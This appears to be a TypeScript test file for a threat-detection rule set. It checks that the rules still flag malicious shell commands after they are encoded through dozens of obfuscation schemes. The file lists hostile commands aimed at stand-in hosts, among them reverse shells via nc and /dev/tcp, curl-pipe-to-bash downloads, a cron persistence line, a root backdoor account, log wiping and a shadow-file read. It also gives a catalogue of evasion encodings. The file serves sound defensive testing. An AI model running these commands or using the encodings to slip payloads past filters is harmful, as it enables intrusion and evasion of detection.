/** The same command in many spellings: attackers encode, and the rules must find what is in it. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { rules } from '../support/loading.ts'

const COMMANDS = [
  'wget http://192.0.2.7/bins.sh -O /tmp/x; chmod +x /tmp/x; /tmp/x',
  'curl -s http://evil.example/miner.sh | bash',
  'cat /etc/shadow',
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'echo "*/5 * * * * curl http://evil.example/c.sh | sh" | crontab -',
  'rm -rf /var/log/*',
  'nc -e /bin/sh 192.0.2.7 4444',
  'uname -s -v -n -r -m',
  'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor',
  'history -c; unset HISTFILE',
  'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
  './xmrig -o stratum+tcp://pool.example:3333 -u x',
]

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const units = (text: string, spell: (unit: number) => string): string =>
  [...text].map((character) => spell(character.charCodeAt(0))).join('')
const x = (text: string): string =>
  units(text, (unit) => `\\x${unit.toString(16).padStart(2, '0')}`)
const octal = (text: string): string =>
  units(text, (unit) => `\\${unit.toString(8).padStart(3, '0')}`)
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const turned = letter.charCodeAt(0) + 13
    return String.fromCharCode(turned > (letter <= 'Z' ? 90 : 122) ? turned - 26 : turned)
  })

/** Spellings of a command line; undefined where its own quotes do not allow it. */
const SPELLINGS: Readonly<Record<string, (text: string) => string | undefined>> = {
  'base64 -d | sh': (text) => `echo ${base64(text)} | base64 -d | sh`,
  'base64 --decode | bash, quoted': (text) => `echo '${base64(text)}'|base64 --decode|bash`,
  base64url: (text) => `echo ${Buffer.from(text).toString('base64url')} | base64 -d | sh`,
  'bash -c "$(...)"': (text) => `bash -c "$(echo ${base64(text)} | base64 -d)"`,
  'here-string': (text) => `base64 -d <<< ${base64(text)} | sh`,
  'base64 twice': (text) =>
    `echo ${base64(`echo ${base64(text)} | base64 -d | sh`)} | base64 -d | sh`,
  'base64 split by quotes': (text) =>
    `echo '${base64(text).slice(0, 9)}''${base64(text).slice(9)}' | base64 -d | sh`,
  eval: (text) => `eval "$(echo ${base64(text)} | base64 -d)"`,
  backticks: (text) => `eval \`echo ${base64(text)} | base64 -d\``,
  'xxd -r -p': (text) => `echo ${hex(text)} | xxd -r -p | sh`,
  'echo -e with \\x': (text) => `echo -e '${x(text)}' | sh`,
  'echo -e with octal': (text) =>
    `echo -e '${units(text, (unit) => `\\0${unit.toString(8).padStart(3, '0')}`)}' | sh`,
  'printf with \\x': (text) => `printf '${x(text)}' | sh`,
  'printf with octal': (text) => `printf '${octal(text)}' | sh`,
  'printf %s': (text) => `printf '%s' '${text.replaceAll("'", "'\\''")}' | sh`,
  "$'...' with \\x": (text) => `eval $'${x(text)}'`,
  "$'...' with \\u": (text) =>
    `bash -c $'${units(text, (unit) => `\\u${unit.toString(16).padStart(4, '0')}`)}'`,
  "$'...' with octal": (text) => `$'${octal(text)}'`,
  '${IFS}': (text) => (/['"]/.test(text) ? undefined : text.replaceAll(' ', '${IFS}')),
  $IFS$9: (text) => (/['"]/.test(text) ? undefined : text.replaceAll(' ', '$IFS$9')),
  'a backslash': (text) => text.replace(/\b([a-z])([a-z]+)\b/, '$1\\$2'),
  'an empty parameter': (text) => text.replace(/\b([a-z])([a-z]+)\b/, '$1${zz}$2'),
  '$@': (text) => text.replace(/\b([a-z])([a-z]+)\b/, '$1$$@$2'),
  'two variables': (text) => {
    const found = /^(\W*)([a-z])([a-z]+)/.exec(text)
    return found === null
      ? undefined
      : `a=${found[2]};b=${found[3]};${found[1]}$a$b${text.slice(found[0].length)}`
  },
  rev: (text) =>
    text.includes("'") ? undefined : `echo '${[...text].reverse().join('')}' | rev | sh`,
  tr: (text) =>
    text.includes("'") ? undefined : `echo '${rot13(text)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  gunzip: (text) => `echo ${gzipSync(text).toString('base64')} | base64 -d | gunzip | sh`,
  percent: (text) => encodeURIComponent(text),
  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
  python: (text) =>
    `python3 -c "import base64,os;os.system(base64.b64decode('${base64(text)}').decode())"`,
  perl: (text) => `perl -MMIME::Base64 -e 'system(decode_base64("${base64(text)}"))'`,
  openssl: (text) => `echo ${base64(text)} | openssl base64 -d | sh`,
  'sh -c': (text) => (text.includes("'") ? undefined : `sh -c '${text}'`),
  busybox: (text) => `echo ${base64(text)} | /bin/busybox base64 -d | /bin/busybox sh`,
  'full-width letters': (text) =>
    [...text]
      .map((one) =>
        one >= '!' && one <= '~' ? String.fromCodePoint(one.charCodeAt(0) + 0xfee0) : one,
      )
      .join(''),
}
/** Spellings that are a hazard of their own: a line break, characters that nobody sees, quotes that SQL knows. */
const THREATS_ALONE: Readonly<Record<string, (text: string) => string>> = {
  'here-document': (text) => `base64 -d << EOF | sh\n${base64(text)}\nEOF`,
  'zero-width spaces': (text) => [...text].join('\u200b'),
  'empty quotes': (text) => text.replace(/\b([a-z])([a-z]+)\b/, "$1''$2"),
  'quoted letters': (text) => text.replace(/\b([a-z])([a-z])([a-z]*)\b/, '$1"$2"$3'),
}

describe('the rules find a command in whatever spelling', () => {
  for (const command of COMMANDS) {
    test(command, () => {
      const plain = rules.match(command, 'command').rules
      assert.ok(plain.some((rule) => rule.startsWith('threat.')))
      for (const [name, spell] of Object.entries(SPELLINGS)) {
        const spelled = spell(command)
        if (spelled !== undefined)
          assert.deepEqual(rules.match(spelled, 'command').rules, plain, name)
      }
      for (const [name, spell] of Object.entries(THREATS_ALONE)) {
        const found = rules.match(spell(command), 'command').rules
        assert.deepEqual(
          found.filter((rule) => rule.startsWith('threat.')),
          plain.filter((rule) => rule.startsWith('threat.')),
          name,
        )
      }
    })
  }
})
